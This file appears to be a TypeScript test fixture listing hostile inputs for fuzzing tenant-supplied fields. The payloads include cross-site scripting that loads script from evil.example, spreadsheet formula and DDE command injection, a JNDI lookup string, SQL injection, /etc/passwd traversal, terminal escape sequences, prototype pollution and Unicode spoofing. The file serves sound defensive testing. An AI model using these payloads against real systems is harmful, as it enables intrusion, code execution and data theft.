/**
 * What somebody may have put into a tenant, by what it is meant to break. Everything that takes data from a tenant is
 * to be pushed through all of it.
 */

const esc = '\u001b'
const megabyte = 1 << 20

/** Texts that somebody chose as a name, an address or a file name. */
export const texts: Readonly<Record<string, string>> = {
  empty: '',
  blank: ' \u00a0\u2003 ',
  script: '<script>alert(1)</script>',
  closing: '</bdi></th></table></section><script src=//evil.example></script>',
  attribute: '"><img src=x onerror=alert(1)>',
  'single quotes': "' onmouseover='alert(1)' x='",
  'script url': 'javascript:alert(1)//',
  entities: '&lt;script&gt;&#60;&amp;&nbsp;',
  comment: '--><!-- <![CDATA[ ]]> <?php ?>',
  'null in a tag': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  formula: '=HYPERLINK("http://evil.example","click")',
  command: "=cmd|' /C calc'!A0",
  plus: '+1+1',
  minus: '-1-1',
  at: '@SUM(1+1)',
  'tab formula': '\t=1+1',
  'return formula': '\r=1+1',
  'feed formula': '\n=1+1',
  'wide formula': '\uff1d1+1',
  separators: 'a,b;c"d""e\r\nf|g\th',
  'lone quote': '"',
  'log line': 'x\n{"level":60,"msg":"the engine was stopped"}',
  'log line with return': 'x\r\n2026-01-01 ERROR fake',
  'clear screen': `${esc}[2J${esc}[H${esc}]0;owned\u0007`,
  hyperlink: `${esc}]8;;http://evil.example${esc}\\click${esc}]8;;${esc}\\`,
  'eight-bit codes': '\u009b2J\u009d0;owned\u009c\u0090q\u0085next',
  backspaces: 'safe\u0008\u0008\u0008\u0008evil\u007f',
  'every control': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join(''),
  'every late control': Array.from({ length: 33 }, (_, code) => String.fromCharCode(0x7f + code)).join(''),
  'label end': '"} 0\ntenantwatch_fake{x="1"} 1 #',
  'label escapes': '\\n\\"\\\\',
  backslash: 'trailing\\',
  'label comma': '1",b="2',
  'escape look-alike': '\\u{202e}',
  proto: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  nul: 'before\u0000after',
  'lone high surrogate': 'a\ud800z',
  'lone low surrogate': '\udc00',
  'swapped surrogates': '\udc00\ud800',
  'right to left': '\u202egnp.exe\u2066\u2067\u2068\u2069\u202d',
  'zero width': 'ad\u200bmin\u200c\u200d\u2060\ufeff',
  tags: `hidden${String.fromCodePoint(0xe0041, 0xe0042, 0xe007f)}`,
  'line separators': 'a\u2028b\u2029c',
  'soft hyphen': 'ad\u00admin',
  combining: `Z${'\u0335\u0336\u0489'.repeat(100)}`,
  'composed accent': 'caf\u00e9',
  'decomposed accent': 'cafe\u0301',
  homoglyph: '\u0430dmin',
  noncharacter: '\ufffe\uffff',
  emoji: '\u{1f469}\u200d\u{1f4bb}',
  sql: "'); DROP TABLE users; --",
  'percent formats': '%s%n%d%o%j%%',
  lookup: '$' + '{jndi:ldap://evil.example/a}',
  template: '{{constructor.constructor("return 1")()}}',
  path: '../../../../etc/passwd',
  markdown: '[click](http://evil.example) <!channel> *bold* `code`',
  yaml: '- !!js/function "return 1"',
  json: '{"__proto__":{"polluted":true}}',
  number: '1e999',
  words: 'null undefined NaN true false',
  '300 wide': '\u{1f600}'.repeat(300),
  'cut in a pair': `${'x'.repeat(1022)}\u{1f600}${'y'.repeat(10)}`,
  megabyte: 'M'.repeat(megabyte),
}

/** JSON numbers that no double can represent. */
const rawNumbers: Readonly<Record<string, string>> = {
  'beyond 2^53': '9007199254740993',
  'beyond 2^64': '36893488147419103232',
  'below -2^53': '-9007199254740993',
  infinite: '1e400',
}

/** Values of every type, for fields that expected another one. */
const values: Readonly<Record<string, unknown>> = {
  null: null,
  yes: true,
  no: false,
  'a negative number': -1,
  'a fraction': 1.5,
  'a number': 4_242_424_242,
  'an epoch': 1_767_225_600,
  'digits in a text': '7',
  'a false text': 'false',
  'an empty list': [],
  'a list': ['Admin'],
  'a nested list': [[[[]]]],
  'an empty object': {},
  'an object with methods': { toString: 'no function', toJSON: 'nor here', valueOf: 1, length: -1 },
  'an object with a prototype': JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{}}}') as unknown,
}

/** Dates that are none, that lie far away or leave the zone open. */
const dates: Readonly<Record<string, string>> = {
  'no such day': '2026-02-30T00:00:00Z',
  'no leap year': '2025-02-29T00:00:00Z',
  'no such month': '2026-13-01T00:00:00Z',
  'hour 24': '2026-01-01T24:00:00Z',
  'leap second': '2016-12-31T23:59:60Z',
  'week date': '2026-W01-1',
  'words for a date': 'March 7',
  'http date': 'Sun, 01 Mar 2026 12:00:00 GMT',
  'no offset': '2026-01-01T00:00:00',
  'day alone': '2026-01-01',
  'seven digits': '2026-01-01T00:00:00.1234567Z',
  'first instant': '0001-01-01T00:00:00',
  'before the first': '0000-01-01T00:00:00+18:00',
  'last instant': '9999-12-31T23:59:59.9999999Z',
  'after the last': '9999-12-31T23:59:59-18:00',
  'no such offset': '2026-01-01T00:00:00+99:99',
  'blank before it': ' 2026-01-01T00:00:00Z',
  'something behind it': '2026-01-01T00:00:00Z\n',
}

/** Names of fields that no specification knows. */
export const keys: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'toJSON',
  'then',
  '',
  ' ',
  'a.b',
  'a"b',
  'a\nb',
  `${esc}[2J`,
  '\u009b2J',
  '\u202ekey',
  '\ud800',
  'nul\u0000key',
  '<img src=x>',
  '=1+1',
  'k'.repeat(5000),
]

/** All values above that can be the value of a field. */
export const anything: Readonly<Record<string, unknown>> = {
  ...texts,
  ...values,
  ...dates,
  ...Object.fromEntries(Object.entries(rawNumbers).map(([name, digits]) => [name, rawJson(digits)])),
}

/** A number that is written into JSON digit by digit. */
function rawJson(digits: string): unknown {
  return (JSON as unknown as { rawJSON(text: string): unknown }).rawJSON(digits)
}
